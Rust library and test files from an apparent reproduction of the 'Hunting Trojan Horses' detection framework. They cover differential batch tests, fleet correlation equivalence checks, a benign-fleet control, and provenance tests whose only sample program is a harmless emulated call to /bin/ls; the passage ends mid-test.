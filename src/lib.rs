//! # HTH — Hunting Trojan Horses
//!
//! A full reproduction of *Hunting Trojan Horses* (Micha Moffie and
//! David Kaeli, NUCAR Technical Report TR-01, January 2006): a security
//! framework that detects Trojan Horses and Backdoors by monitoring a
//! program's execution and judging its behaviour with an expert system.
//!
//! The framework has two halves, faithfully rebuilt here:
//!
//! * **Harrier** ([`harrier`]) — the run-time monitor. It tracks a
//!   *set of data sources* (`USER_INPUT`, `FILE`, `SOCKET`, `BINARY`,
//!   `HARDWARE`) for every register and memory byte, counts basic-block
//!   executions with last-application-block attribution, and turns
//!   syscalls into typed events.
//! * **Secpert** ([`hth_core::Secpert`]) — the security expert system: a
//!   CLIPS-like engine ([`secpert_engine`]) evaluating the paper's
//!   policy (execution flow, resource abuse, information flow) and
//!   explaining every warning it raises.
//!
//! Because the original ran on Intel Pin over real Linux binaries, this
//! reproduction ships its own substrate: a small x86-flavoured VM and
//! assembler ([`hth_vm`]) and an emulated kernel ([`emukernel`]) with
//! files, sockets, DNS and processes. Every workload of the paper's
//! evaluation is included in [`hth_workloads`].
//!
//! The event protocol between the two halves is first-class in
//! [`hth_fleet`]: a binary wire codec, append-once/replay-offline event
//! journals, and a sharded analyst pool that scales Secpert across
//! threads for whole fleets of monitored sessions.
//!
//! ## Quickstart
//!
//! ```
//! use hth::{Session, SessionConfig, Severity};
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut session = Session::new(SessionConfig::default())?;
//! session.kernel.register_binary(
//!     "/bin/dropper",
//!     r#"
//!     _start:
//!         mov eax, 11        ; execve
//!         mov ebx, prog      ; name hardcoded in the binary
//!         int 0x80
//!         hlt
//!     .data
//!     prog: .asciz "/bin/ls"
//!     "#,
//!     &[],
//! );
//! session.start("/bin/dropper", &["/bin/dropper"], &[])?;
//! session.run()?;
//! assert_eq!(session.max_severity(), Some(Severity::Low));
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]

pub use emukernel;
pub use harrier;
pub use hth_core;
pub use hth_fleet;
pub use hth_vm;
pub use hth_workloads;
pub use secpert_engine;

pub use hth_core::{
    BotnetReport, DropRecord, PolicyConfig, RunReport, Secpert, Session, SessionConfig,
    SessionError, SessionHistory, SessionSummary, Severity, Warning,
};
