//! Batch/per-event differential suite: the batched shard hot path must
//! be *byte-identical* to the per-event path it replaced, for every
//! batch size and every batch boundary.
//!
//! Three layers of evidence:
//!
//! * a property test driving [`Secpert::process_batch`] over scenario
//!   mixes × batch sizes {1, 2, 3, 7, 64, whole-journal} × arbitrary
//!   mid-session split points, comparing rendered warnings, `hth
//!   explain` provenance trees, and [`MatchStats`] against a per-event
//!   reference engine;
//! * a pool-level differential: the same session streams through a
//!   `batch_size=64` analyst pool and a `batch_size=1` pool (and
//!   through producer-side `submit_batch` splits that cut sessions
//!   mid-stream) must agree on events analysed and the warning
//!   multiset;
//! * the PR 1 golden anchor: batched offline replay of the §8 corpus
//!   reproduces `tests/golden/warnings.txt` and
//!   `tests/golden/explain.txt` byte-for-byte.

use std::sync::{Arc, Mutex, OnceLock};

use hth::harrier::SecpertEvent;
use hth::hth_fleet::{warning_multiset, AnalystPool, PoolConfig};
use hth::hth_workloads::{all_scenarios, Group, Scenario};
use hth::{PolicyConfig, Secpert, Session, SessionConfig, Warning};
use proptest::prelude::*;

/// Batch sizes the differential sweeps; `usize::MAX` stands for
/// "whole journal in one batch" (chunked, it clamps to the stream).
const BATCH_SIZES: [usize; 6] = [1, 2, 3, 7, 64, usize::MAX];

/// Records one scenario's event stream through the session tap,
/// without inline analysis — the raw material every differential run
/// re-analyzes offline.
fn record(scenario: &Scenario) -> Vec<SecpertEvent> {
    let events = Arc::new(Mutex::new(Vec::new()));
    let config =
        SessionConfig { analyze_inline: false, record_events: false, ..Default::default() };
    let mut session = Session::new(config).expect("policy loads");
    let start = (scenario.setup)(&mut session);
    let sink = Arc::clone(&events);
    session.set_event_tap(Box::new(move |event| {
        sink.lock().expect("event sink").push(event.clone());
    }));
    let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
    let env: Vec<(&str, &str)> = start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    session.start(start.path, &argv, &env).expect("spawns");
    session.run().expect("runs");
    drop(session);
    Arc::try_unwrap(events)
        .unwrap_or_else(|_| unreachable!("tap dropped with the session"))
        .into_inner()
        .expect("event sink")
}

/// The recorded §8 streams (Table 8 exploits plus the `ttt` macro
/// pair), captured once — recording runs whole VM sessions and is by
/// far the slowest part of the suite.
fn corpus() -> &'static Vec<(String, Vec<SecpertEvent>)> {
    static CORPUS: OnceLock<Vec<(String, Vec<SecpertEvent>)>> = OnceLock::new();
    CORPUS.get_or_init(|| {
        let mut scenarios = hth::hth_workloads::exploits::scenarios();
        scenarios.extend(
            hth::hth_workloads::macro_bench::scenarios()
                .into_iter()
                .filter(|s| s.id == "ttt" || s.id == "ttt_trojaned"),
        );
        scenarios.iter().map(|s| (s.id.to_string(), record(s))).collect()
    })
}

/// One warning, rendered exactly as the golden corpus pins it,
/// followed by its `hth explain` causal tree — the full observable
/// surface of a warning in one string.
fn render_full(warning: &Warning) -> String {
    let mut out = format!(
        "t={} pid={} {} [{}] {}\n",
        warning.time,
        warning.pid,
        warning.rule,
        warning.severity.label(),
        warning.message
    );
    match warning.provenance.as_deref() {
        Some(prov) => out.push_str(&prov.render_tree(warning)),
        None => out.push_str("(no provenance)\n"),
    }
    out
}

/// Replays a stream through a fresh expert one event at a time — the
/// reference the batched runs must reproduce byte-for-byte.
fn per_event_reference(stream: &[SecpertEvent]) -> (String, secpert_engine::MatchStats) {
    let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let mut rendered = String::new();
    for event in stream {
        for warning in secpert.process_event(event).expect("replay") {
            rendered.push_str(&render_full(&warning));
        }
    }
    (rendered, secpert.match_stats())
}

/// Replays a stream through a fresh expert in batches cut at `splits`
/// (ascending positions inside the stream).
fn batched_run(stream: &[SecpertEvent], splits: &[usize]) -> (String, secpert_engine::MatchStats) {
    let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let mut rendered = String::new();
    let mut start = 0;
    for &split in splits.iter().chain(std::iter::once(&stream.len())) {
        let run = &stream[start..split];
        start = split;
        for warning in secpert.process_batch(run).expect("replay") {
            rendered.push_str(&render_full(&warning));
        }
    }
    (rendered, secpert.match_stats())
}

/// Even splits every `batch` events; `batch >= len` is one whole-journal
/// batch.
fn uniform_splits(len: usize, batch: usize) -> Vec<usize> {
    (1..len).filter(|i| i % batch.max(1) == 0).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Any scenario mix, any batch size, any mid-session batch
    /// boundaries: warnings, provenance trees, and match-network
    /// counters are byte-identical to the per-event reference.
    #[test]
    fn batched_analysis_is_byte_identical_to_per_event(
        mix in any::<u64>(),
        batch_pick in 0usize..BATCH_SIZES.len(),
        split_seed in any::<u64>(),
    ) {
        let corpus = corpus();
        // A non-empty subset of the recorded streams.
        let picked: Vec<&(String, Vec<SecpertEvent>)> = corpus
            .iter()
            .enumerate()
            .filter(|(i, _)| mix >> (i % 64) & 1 == 1)
            .map(|(_, s)| s)
            .collect();
        let picked = if picked.is_empty() { vec![&corpus[0]] } else { picked };
        for (id, stream) in picked {
            let (want, want_stats) = per_event_reference(stream);

            // Uniform batches at the swept size.
            let batch = BATCH_SIZES[batch_pick];
            let (got, got_stats) = batched_run(stream, &uniform_splits(stream.len(), batch));
            prop_assert_eq!(&got, &want, "{}: batch={} diverged", id, batch);
            prop_assert_eq!(got_stats, want_stats, "{}: batch={} stats diverged", id, batch);

            // Arbitrary mid-session boundaries from the case seed.
            let mut splits = Vec::new();
            let mut x = split_seed | 1;
            for i in 1..stream.len() {
                // xorshift64: a cheap deterministic coin per position.
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                if x % 3 == 0 {
                    splits.push(i);
                }
            }
            let (got, got_stats) = batched_run(stream, &splits);
            prop_assert_eq!(&got, &want, "{}: random splits diverged", id);
            prop_assert_eq!(got_stats, want_stats, "{}: random-split stats diverged", id);
        }
    }
}

/// Every swept batch size reproduces the per-event reference on every
/// recorded stream — the deterministic exhaustive sweep backing the
/// sampled property above.
#[test]
fn every_batch_size_matches_on_every_stream() {
    for (id, stream) in corpus() {
        let (want, want_stats) = per_event_reference(stream);
        for batch in BATCH_SIZES {
            let (got, got_stats) = batched_run(stream, &uniform_splits(stream.len(), batch));
            assert_eq!(got, want, "{id}: batch={batch} diverged");
            assert_eq!(got_stats, want_stats, "{id}: batch={batch} stats diverged");
        }
    }
}

/// Pool-level differential: a `batch_size=64` pool, a `batch_size=1`
/// pool, and producer-side `submit_batch` chunks that cut sessions
/// mid-stream all agree on events analysed and the warning multiset.
#[test]
fn batched_pool_matches_per_event_pool() {
    let corpus = corpus();
    let total: u64 = corpus.iter().map(|(_, s)| s.len() as u64).sum();

    let run = |batch_size: usize, producer_chunk: usize| {
        let config = PoolConfig { shards: 4, batch_size, ..PoolConfig::default() };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy loads");
        let mut buffer: Vec<SecpertEvent> = Vec::new();
        for (sid, (_, stream)) in corpus.iter().enumerate() {
            if producer_chunk <= 1 {
                for event in stream {
                    pool.submit(sid as u64, event.clone());
                }
            } else {
                for run in stream.chunks(producer_chunk) {
                    buffer.extend(run.iter().cloned());
                    pool.submit_batch(sid as u64, &mut buffer);
                }
            }
        }
        let report = pool.finish();
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        assert_eq!(report.lost(), 0);
        report
    };

    let reference = run(1, 1);
    assert_eq!(reference.events, total);
    let baseline = warning_multiset(&reference.warnings);
    assert!(!baseline.is_empty(), "the corpus must warn");

    // (shard batch, producer chunk): default batched shards, batched
    // producers over per-event shards, and both at once with a chunk
    // size that never aligns with session length.
    for (batch_size, producer_chunk) in [(64, 1), (1, 7), (64, 7), (3, 13)] {
        let report = run(batch_size, producer_chunk);
        assert_eq!(
            report.events, total,
            "batch={batch_size} chunk={producer_chunk}: event count diverged"
        );
        assert_eq!(
            warning_multiset(&report.warnings),
            baseline,
            "batch={batch_size} chunk={producer_chunk}: warning multiset diverged"
        );
    }
}

/// The PR 1 golden anchor: batched offline replay of the §8 corpus
/// reproduces the pinned warning traces and `hth explain` trees
/// byte-for-byte. (`scenario.run()` pins the inline path in
/// `full_pipeline.rs`; this pins the batched offline path against the
/// very same files.)
#[test]
fn batched_replay_reproduces_golden_corpus() {
    let mut warnings_rendered = String::new();
    let mut explain_rendered = String::new();
    for scenario in all_scenarios() {
        if scenario.group != Group::Exploit && scenario.group != Group::Macro {
            continue;
        }
        let stream = record(&scenario);
        let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
        let mut warnings = Vec::new();
        for run in stream.chunks(64) {
            warnings.extend(secpert.process_batch(run).expect("replay"));
        }
        let header = format!("== {} ({})\n", scenario.id, scenario.group.table());
        warnings_rendered.push_str(&header);
        explain_rendered.push_str(&header);
        if warnings.is_empty() {
            warnings_rendered.push_str("(silent)\n");
            explain_rendered.push_str("(silent)\n");
        }
        for w in &warnings {
            warnings_rendered.push_str(&format!(
                "t={} pid={} {} [{}] {}\n",
                w.time,
                w.pid,
                w.rule,
                w.severity.label(),
                w.message
            ));
            match w.provenance.as_deref() {
                Some(prov) => explain_rendered.push_str(&prov.render_tree(w)),
                None => explain_rendered.push_str("(no provenance)\n"),
            }
        }
    }
    let golden_warnings =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/warnings.txt"))
            .expect("golden warnings snapshot missing");
    assert_eq!(
        golden_warnings, warnings_rendered,
        "batched replay diverged from tests/golden/warnings.txt"
    );
    let golden_explain =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/explain.txt"))
            .expect("golden explain snapshot missing");
    assert_eq!(
        golden_explain, explain_rendered,
        "batched replay diverged from tests/golden/explain.txt"
    );
}
