//! Cross-session correlation equivalence: the fleet correlator's
//! verdict is a pure function of *what the sessions did*, not of how
//! their digests travelled.
//!
//! The reference is the sequential baseline: run each session of the
//! coordinated campaign ([`hth::hth_workloads::coordinated`]) inline,
//! digest it with [`digest_session`], feed the digests to one
//! [`Correlator`]. Every other leg must reproduce that
//! [`CorrelationReport`] *in full* — warnings, provenance, transcript,
//! and the rendered fleet causal trees — byte for byte:
//!
//! * the batch fleet: [`run_scenarios`] over shard counts {1, 2, 4} ×
//!   analyst batch sizes {1, 64}, digests built shard-side and shipped
//!   over the digest wire codec;
//! * journal replay: every session recorded to an event journal,
//!   decoded back, re-analysed offline with [`replay`], re-digested;
//! * the serve daemon: sessions submitted event-at-a-time into a
//!   [`SessionTable`] — with the default budget and with `budget 0`
//!   (every session evicted and revived around every request) — and
//!   over real loopback TCP through the framed protocol;
//! * a property soak mixing transports, shard counts, batch sizes and
//!   worker counts (`PROPTEST_CASES` scales it up in CI).

use std::sync::{Arc, Mutex, OnceLock};

use hth::harrier::SecpertEvent;
use hth::hth_core::{digest_session, CorrelateConfig, CorrelationReport, Correlator};
use hth::hth_fleet::{replay, FleetConfig, JournalReader, JournalWriter};
use hth::hth_workloads::coordinated;
use hth::{PolicyConfig, Secpert, Session, SessionConfig};
use hth_serve::{Client, ServeConfig, Server, SessionTable, TableConfig};
use proptest::prelude::*;

/// The campaign, with the session ids the fleet would assign: scenario
/// index order.
fn campaign_ids() -> Vec<(u64, String)> {
    coordinated::scenarios().iter().enumerate().map(|(i, s)| (i as u64, s.id.to_string())).collect()
}

/// Records one scenario's raw event stream through the session tap
/// (no inline analysis) — the same stream the fleet's shards and the
/// serve daemon see.
fn record(scenario: &hth::hth_workloads::Scenario) -> Vec<SecpertEvent> {
    let events = Arc::new(Mutex::new(Vec::new()));
    let config =
        SessionConfig { analyze_inline: false, record_events: false, ..Default::default() };
    let mut session = Session::new(config).expect("policy loads");
    let start = (scenario.setup)(&mut session);
    let sink = Arc::clone(&events);
    session.set_event_tap(Box::new(move |event| {
        sink.lock().expect("event sink").push(event.clone());
    }));
    let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
    let env: Vec<(&str, &str)> = start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    session.start(start.path, &argv, &env).expect("spawns");
    session.run().expect("runs");
    drop(session);
    Arc::try_unwrap(events)
        .unwrap_or_else(|_| unreachable!("tap dropped with the session"))
        .into_inner()
        .expect("event sink")
}

/// The recorded campaign streams, captured once — VM sessions are the
/// slow part of the suite.
fn corpus() -> &'static Vec<(u64, String, Vec<SecpertEvent>)> {
    static CORPUS: OnceLock<Vec<(u64, String, Vec<SecpertEvent>)>> = OnceLock::new();
    CORPUS.get_or_init(|| {
        coordinated::scenarios()
            .iter()
            .enumerate()
            .map(|(i, s)| (i as u64, s.id.to_string(), record(s)))
            .collect()
    })
}

/// The sequential reference: inline sessions, one digest each, one
/// correlation pass.
fn baseline() -> &'static CorrelationReport {
    static BASELINE: OnceLock<CorrelationReport> = OnceLock::new();
    BASELINE.get_or_init(|| {
        let mut correlator = Correlator::new(CorrelateConfig::default());
        for (i, scenario) in coordinated::scenarios().iter().enumerate() {
            let mut session = Session::new(SessionConfig::default()).expect("policy loads");
            let start = (scenario.setup)(&mut session);
            let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
            let env: Vec<(&str, &str)> =
                start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            session.start(start.path, &argv, &env).expect("spawns");
            session.run().expect("runs");
            correlator.ingest(digest_session(
                i as u64,
                scenario.id,
                session.events(),
                session.warnings(),
            ));
        }
        correlator.correlate().expect("correlator policy loads")
    })
}

/// Asserts a leg reproduced the baseline report in full, including the
/// rendered fleet trees (provenance is part of `PartialEq`, but the
/// rendering is the user-visible surface `hth explain` prints, so pin
/// it explicitly).
fn assert_matches_baseline(leg: &str, report: &CorrelationReport) {
    let reference = baseline();
    assert_eq!(report, reference, "{leg}: correlation report diverged");
    assert_eq!(
        report.render_trees(),
        reference.render_trees(),
        "{leg}: rendered fleet trees diverged"
    );
    assert_eq!(report.render(), reference.render(), "{leg}: summary rendering diverged");
}

/// One batch-fleet run of the campaign with the correlator on.
fn fleet_leg(shards: usize, batch_size: usize, workers: usize) -> CorrelationReport {
    let mut config = FleetConfig::default();
    config.pool.shards = shards;
    config.pool.batch_size = batch_size;
    config.workers = workers;
    config.correlate = Some(CorrelateConfig::default());
    let report =
        hth::hth_fleet::run_scenarios(coordinated::scenarios(), &config).expect("fleet runs");
    assert_eq!(report.session_errors, Vec::<String>::new());
    assert_eq!(report.analyst_errors, Vec::<String>::new());
    report.correlation.expect("correlate was configured")
}

/// Re-analyses the recorded corpus through the journal path: encode to
/// a journal, decode the events back, replay them into a fresh engine
/// for the warnings, digest, correlate.
fn journal_leg() -> CorrelationReport {
    let mut correlator = Correlator::new(CorrelateConfig::default());
    for (sid, label, events) in corpus() {
        let mut writer = JournalWriter::new(Vec::new()).expect("journal header");
        for event in events {
            writer.append(event).expect("journal append");
        }
        let bytes = writer.finish().expect("journal finish");

        let reader = JournalReader::new(std::io::Cursor::new(bytes.clone())).expect("header");
        let decoded: Vec<SecpertEvent> =
            reader.map(|r| r.expect("clean journal decodes")).collect();
        assert_eq!(&decoded, events, "journal round-trip must be lossless");

        let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
        let reader = JournalReader::new(std::io::Cursor::new(bytes)).expect("header");
        let warnings = replay(reader, &mut secpert).expect("replay");
        correlator.ingest(digest_session(*sid, label, &decoded, &warnings));
    }
    correlator.correlate().expect("correlator policy loads")
}

/// Feeds the recorded corpus into a serve session table event by
/// event. Odd sessions are closed (retired digests), even ones stay
/// open (live snapshots) — `SessionTable::correlate` must merge both,
/// and it round-trips the digests through the wire codec on the way.
fn serve_leg(budget_bytes: usize) -> CorrelationReport {
    let table = SessionTable::new(TableConfig { budget_bytes, ..TableConfig::default() });
    for (sid, label, events) in corpus() {
        table.open(*sid).expect("open");
        table.set_label(*sid, label).expect("label");
        for event in events {
            table.submit(*sid, event).expect("submit");
        }
        if sid % 2 == 1 {
            table.close(*sid).expect("close");
        }
    }
    table.correlate(&CorrelateConfig::default()).expect("correlate")
}

/// The headline matrix: every shard count × batch size reproduces the
/// sequential baseline, and the baseline itself carries the
/// cross-session causal evidence the campaign was built to surface.
#[test]
fn fleet_matrix_matches_sequential_baseline() {
    let reference = baseline();
    assert_eq!(reference.sessions, 12);
    let rules: std::collections::BTreeSet<&str> =
        reference.warnings.iter().map(|w| w.rule.as_str()).collect();
    assert_eq!(
        rules,
        ["distributed_exfil", "recurring_dropper", "shared_c2"].into_iter().collect(),
        "{}",
        reference.render()
    );
    // The acceptance bar: at least one fleet warning whose causal tree
    // spans >= 3 sessions.
    let c2 = reference.warnings.iter().find(|w| w.rule == "shared_c2").expect("shared_c2");
    let provenance = c2.provenance.as_ref().expect("fleet provenance");
    assert!(
        provenance.taint_sources.len() >= 3,
        "shared_c2 tree must span >= 3 sessions: {:?}",
        provenance.taint_sources
    );
    assert_eq!(provenance.syscall, "digest-stream");

    for shards in [1usize, 2, 4] {
        for batch_size in [1usize, 64] {
            let report = fleet_leg(shards, batch_size, 4);
            assert_matches_baseline(&format!("fleet shards={shards} batch={batch_size}"), &report);
        }
    }
}

#[test]
fn journal_replay_matches_sequential_baseline() {
    assert_matches_baseline("journal replay", &journal_leg());
}

#[test]
fn serve_table_matches_sequential_baseline() {
    assert_matches_baseline(
        "serve (default budget)",
        &serve_leg(TableConfig::default().budget_bytes),
    );
    // Budget 0 evicts every session after every request: the digest
    // stream must not notice the churn.
    assert_matches_baseline("serve (budget 0, full churn)", &serve_leg(0));
}

/// The full daemon over loopback TCP: framed protocol, label requests,
/// drain summary.
#[test]
fn serve_daemon_matches_sequential_baseline() {
    let table =
        TableConfig { correlate: Some(CorrelateConfig::default()), ..TableConfig::default() };
    let config = ServeConfig { addr: "127.0.0.1:0".into(), workers: 2, table };
    let server = Server::bind(config).expect("bind loopback");
    let addr = server.local_addr();
    let join = std::thread::spawn(move || server.run().expect("server run"));

    let mut client = Client::connect(addr).expect("connect");
    for (sid, label, events) in corpus() {
        client.open(*sid).expect("open");
        client.label(*sid, label).expect("label");
        for event in events {
            client.submit(*sid, event).expect("submit");
        }
    }
    let stats = client.stats().expect("stats");
    assert_eq!(
        stats.correlator_warnings,
        baseline().warnings.len() as u64,
        "live stats must already see the fleet warnings"
    );
    client.shutdown().expect("shutdown");
    let summary = join.join().expect("server thread");
    let report = summary.correlation.expect("correlate was configured");
    assert_matches_baseline("serve daemon (TCP)", &report);
}

/// The golden anchor: the campaign's full fleet-level verdict — the
/// one-line-per-warning summary *and* every cross-session causal tree,
/// exactly as `hth fleet --correlate` and fleet-level `hth explain`
/// print them — pinned byte-for-byte. Any change to digest extraction,
/// aggregate grouping, the correlator rules, or provenance rendering
/// shows up here as a readable diff. Regenerate intentionally with
/// `UPDATE_GOLDEN=1 cargo test --test correlate_equivalence golden`.
#[test]
fn fleet_correlation_matches_golden_snapshot() {
    let report = fleet_leg(4, 64, 4);
    let rendered = format!("{}\n{}", report.render(), report.render_trees());
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden/correlate.txt");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(path, &rendered).expect("golden path writable");
        return;
    }
    let golden = std::fs::read_to_string(path)
        .expect("golden snapshot missing; run with UPDATE_GOLDEN=1 to create it");
    assert_eq!(
        golden, rendered,
        "fleet correlation diverged from tests/golden/correlate.txt; \
         if the change is intended, regenerate with UPDATE_GOLDEN=1"
    );
}

/// Which transport a soak case exercises.
#[derive(Clone, Debug)]
enum Leg {
    Fleet { shards: usize, batch_size: usize, workers: usize },
    Journal,
    Serve { budget_bytes: usize },
}

fn leg_strategy() -> impl Strategy<Value = Leg> {
    const BATCH_SIZES: [usize; 5] = [1, 2, 3, 7, 64];
    const BUDGETS: [usize; 3] = [0, 1 << 14, 64 << 20];
    prop_oneof![
        (1usize..=4, 0usize..BATCH_SIZES.len(), 1usize..=4).prop_map(|(shards, b, workers)| {
            Leg::Fleet { shards, batch_size: BATCH_SIZES[b], workers }
        }),
        Just(Leg::Journal),
        (0usize..BUDGETS.len()).prop_map(|b| Leg::Serve { budget_bytes: BUDGETS[b] }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Transport invariance soak: any transport, any sharding, any
    /// batching — one report. `PROPTEST_CASES=500` is the CI setting.
    #[test]
    fn correlator_is_transport_invariant(leg in leg_strategy()) {
        let report = match &leg {
            Leg::Fleet { shards, batch_size, workers } => fleet_leg(*shards, *batch_size, *workers),
            Leg::Journal => journal_leg(),
            Leg::Serve { budget_bytes } => serve_leg(*budget_bytes),
        };
        assert_matches_baseline(&format!("{leg:?}"), &report);
    }

    /// Digest ingest order never matters: any permutation of the
    /// baseline digests correlates to the baseline report.
    #[test]
    fn ingest_order_is_irrelevant(seed in 0u64..1 << 48) {
        let mut ids = campaign_ids();
        // Deterministic Fisher-Yates from the seed (the shim has no
        // shuffle strategy).
        let mut state = seed | 1;
        for i in (1..ids.len()).rev() {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            ids.swap(i, (state >> 33) as usize % (i + 1));
        }
        let mut correlator = Correlator::new(CorrelateConfig::default());
        for (sid, _label) in &ids {
            let (_, label, events) = &corpus()[*sid as usize];
            let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
            let mut writer = JournalWriter::new(Vec::new()).expect("journal header");
            for event in events {
                writer.append(event).expect("journal append");
            }
            let bytes = writer.finish().expect("journal finish");
            let reader = JournalReader::new(std::io::Cursor::new(bytes)).expect("header");
            let warnings = replay(reader, &mut secpert).expect("replay");
            correlator.ingest(digest_session(*sid, label, events, &warnings));
        }
        assert_matches_baseline(&format!("permutation seed={seed}"), &correlator.correlate().expect("correlate"));
    }
}
