//! Negative control for the fleet correlator: an honest fleet must be
//! silent at the fleet level.
//!
//! The paper's Table 1 trusted programs (ls, make, g++, awk, …) run as
//! a 32-session fleet — each program appearing several times, as it
//! would across real users — with the correlator on. None of the three
//! fleet rules may fire: repeated *labels* are not coordination
//! (`shared_c2` wants distinct programs sharing one endpoint), honest
//! file writes are not dropper artifacts, and there is no exfiltration
//! to sum. A correlator that warns here would bury the real campaign
//! in noise.

use hth::hth_core::CorrelateConfig;
use hth::hth_fleet::{run_scenarios, FleetConfig};
use hth::hth_workloads::{trusted, Scenario};

/// 32 sessions cycled from the trusted catalog.
fn benign_fleet(sessions: usize) -> Vec<Scenario> {
    let mut scenarios = Vec::with_capacity(sessions);
    while scenarios.len() < sessions {
        for scenario in trusted::scenarios() {
            if scenarios.len() == sessions {
                break;
            }
            scenarios.push(scenario);
        }
    }
    scenarios
}

#[test]
fn a_benign_fleet_raises_no_fleet_warnings() {
    let mut config = FleetConfig::default();
    config.pool.shards = 4;
    config.workers = 4;
    config.correlate = Some(CorrelateConfig::default());
    let report = run_scenarios(benign_fleet(32), &config).expect("fleet runs");
    assert_eq!(report.session_errors, Vec::<String>::new());
    assert_eq!(report.analyst_errors, Vec::<String>::new());
    assert_eq!(report.sessions, 32);

    let correlation = report.correlation.expect("correlate was configured");
    assert_eq!(correlation.sessions, 32, "every session must contribute a digest");
    assert!(
        correlation.warnings.is_empty(),
        "benign fleet must stay fleet-silent:\n{}",
        correlation.render()
    );
    assert_eq!(correlation.render_trees(), "", "no warnings, no trees");
}
