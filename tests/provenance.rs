//! Provenance correctness across the §8 corpus: every golden warning
//! (the exploit and macro workloads pinned in `tests/golden/warnings.txt`)
//! must carry a non-empty causal tree, the tree's leaf event must exist
//! in the recorded event stream, and the rendered `hth explain` trees
//! are themselves pinned as a golden snapshot.

use std::io::Cursor;
use std::sync::{Arc, Mutex};

use hth::hth_fleet::{JournalReader, JournalWriter};
use hth::hth_workloads::{all_scenarios, Group};
use hth::{PolicyConfig, Secpert, Session, SessionConfig};

/// Every warning of every golden workload explains itself: provenance
/// is present, the rule chain ends in the warning's own rule, and the
/// triggering event index points inside the session's event stream.
#[test]
fn every_golden_warning_has_a_causal_tree() {
    for scenario in all_scenarios() {
        if scenario.group != Group::Exploit && scenario.group != Group::Macro {
            continue;
        }
        let result = scenario.run().expect("scenario runs");
        for warning in &result.warnings {
            let prov = warning.provenance.as_deref().unwrap_or_else(|| {
                panic!("{}: warning `{}` has no provenance", scenario.id, warning.rule)
            });
            assert!(
                !prov.rule_chain.is_empty(),
                "{}: `{}` has an empty rule chain",
                scenario.id,
                warning.rule
            );
            assert_eq!(
                prov.rule_chain.last().unwrap(),
                &warning.rule,
                "{}: chain must end in the warning's own rule",
                scenario.id
            );
            assert!(prov.firing_seq >= 1, "{}: firing seq is 1-based", scenario.id);
            assert!(
                prov.event_index >= 1 && prov.event_index <= result.events as u64,
                "{}: event #{} outside the {}-event stream",
                scenario.id,
                prov.event_index,
                result.events
            );
            let tree = prov.render_tree(warning);
            assert!(tree.lines().count() >= 2, "{}: degenerate tree:\n{tree}", scenario.id);
            assert!(tree.contains(&warning.rule), "{}: tree must name the rule", scenario.id);
        }
    }
}

/// Journal round trip: record a dropper session, replay it offline, and
/// check each warning's leaf event really is the journal frame the
/// provenance claims (same index, same syscall) — what `hth explain`
/// shows is anchored in the journal, not reconstructed.
#[test]
fn explain_leaf_events_exist_in_the_journal() {
    let journal = Arc::new(Mutex::new(JournalWriter::new(Vec::new()).expect("in-memory journal")));
    let mut session = Session::new(SessionConfig::default()).expect("policy loads");
    let tap = Arc::clone(&journal);
    session.set_event_tap(Box::new(move |event| {
        tap.lock().expect("journal tap").append(event).expect("in-memory append");
    }));
    session.kernel.register_binary(
        "/bin/dropper",
        r#"
        _start:
            mov eax, 11
            mov ebx, prog
            int 0x80
            hlt
        .data
        prog: .asciz "/bin/ls"
        "#,
        &[],
    );
    session.start("/bin/dropper", &["/bin/dropper"], &[]).expect("spawns");
    session.run().expect("runs");
    drop(session); // releases the tap's Arc
    let bytes = Arc::try_unwrap(journal)
        .unwrap_or_else(|_| unreachable!("tap dropped with the session"))
        .into_inner()
        .expect("journal tap")
        .finish()
        .expect("flushes");

    let frames: Vec<_> = JournalReader::new(Cursor::new(&bytes))
        .expect("journal header")
        .collect::<Result<_, _>>()
        .expect("journal decodes");
    assert!(!frames.is_empty());

    let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let reader = JournalReader::new(Cursor::new(&bytes)).expect("journal header");
    let warnings = hth::hth_fleet::replay(reader, &mut secpert).expect("replays");
    assert!(!warnings.is_empty(), "the dropper must warn");
    for warning in &warnings {
        let prov = warning.provenance.as_deref().expect("replayed warning has provenance");
        let frame = frames
            .get(prov.event_index as usize - 1)
            .unwrap_or_else(|| panic!("event #{} not in the journal", prov.event_index));
        assert_eq!(frame.syscall(), prov.syscall, "leaf event syscall must match the frame");
    }
}

/// Causal trees for the §8 golden workloads, pinned byte-for-byte —
/// exactly what `hth explain` prints for each warning. Any change to
/// provenance capture (support facts, rule chains, taint rendering)
/// shows up here as a readable diff. Regenerate intentionally with
/// `UPDATE_GOLDEN=1 cargo test golden`.
#[test]
fn explain_trees_match_golden_snapshot() {
    let mut rendered = String::new();
    for scenario in all_scenarios() {
        if scenario.group != Group::Exploit && scenario.group != Group::Macro {
            continue;
        }
        let result = scenario.run().expect("scenario runs");
        rendered.push_str(&format!("== {} ({})\n", scenario.id, scenario.group.table()));
        if result.warnings.is_empty() {
            rendered.push_str("(silent)\n");
        }
        for warning in &result.warnings {
            match warning.provenance.as_deref() {
                Some(prov) => rendered.push_str(&prov.render_tree(warning)),
                None => rendered.push_str("(no provenance)\n"),
            }
        }
    }
